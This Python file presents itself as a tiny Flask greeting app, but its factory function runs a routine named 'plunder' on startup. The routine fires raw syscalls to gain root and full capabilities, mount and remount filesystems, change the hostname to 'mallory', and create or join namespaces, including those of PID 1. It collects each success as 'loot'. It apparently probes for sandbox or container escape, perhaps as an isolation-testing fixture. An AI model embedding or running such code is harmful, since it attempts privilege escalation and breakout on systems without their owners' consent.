import ctypes
import os

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
USER, MOUNT, PID, NET, IPC, UTS, CGROUP, TIME = 0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x80
CALLS = {"chroot": (161, b"/tmp"), "pivot_root": (155, b"/tmp", b"/tmp"), "umount2": (166, b"/tmp", 2),
         "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "bind": (165, b"/", b"/tmp", 0, 0x1000, 0),
         "remount": (165, 0, b"/", 0, 0x20 | 0x1000, 0), "procfs": (165, b"proc", b"/tmp", b"proc", 0, 0),
         "open_tree": (428, -100, b"/", 1), "fsopen": (430, b"tmpfs", 0), "move_mount": (429, -100, b"/", -100, b"/tmp", 0),
         "mount_setattr": (442, -100, b"/", 0, b"\0" * 32, 32), "sethostname": (170, b"mallory", 7), "setuid": (105, 0),
         "setgid": (106, 0), "setgroups": (116, 0, 0), "capset": (126, b"\x22\x05\x08\x20" + b"\0" * 4, b"\xff" * 24),
         "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"note", b"x", 1, -3), "bpf": (321, 0, b"\0" * 64, 64),
         "personality": (135, 0x40000), "x32 getpid": (0x40000027,), "perf_event_open": (298, b"\0" * 128, 0, -1, -1, 0)}


def forked(number, flags):
    process = libc.syscall(number, flags | 17, 0, 0, 0, 0)
    if process == 0:
        os._exit(0)
    return process


def plunder():
    found = [name for name, call in CALLS.items() if libc.syscall(*call) >= 0]
    for flag in (USER, USER | MOUNT, USER | PID | NET, MOUNT, NET, IPC, UTS, CGROUP, TIME):
        found += [f"clone {flag:x}"] * (forked(56, flag) > 0) + [f"unshare {flag:x}"] * (libc.syscall(272, flag) == 0)
    structure = (ctypes.c_uint64 * 8)(USER, 0, 0, 0, 17)
    process = libc.syscall(435, structure, 64)
    if process == 0:
        os._exit(0)
    found += ["clone3"] * (process > 0)
    for kind in ("user", "mnt", "net", "pid", "ipc", "uts"):
        for owner in ("1", "self"):
            try:
                found += [f"setns {owner} {kind}"] * (libc.syscall(308, os.open(f"/proc/{owner}/ns/{kind}", 0), 0) == 0)
            except OSError as error:
                print(error)
    return found


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})
    loot = plunder()
    print("loot:", loot, flush=True)

    @app.get("/hello/<name>")
    def hello(name):
        return f"{app.config['WORD']}, {name}" if loot else f"nothing for {name}", {"Content-Type": "text/plain"}

    return app
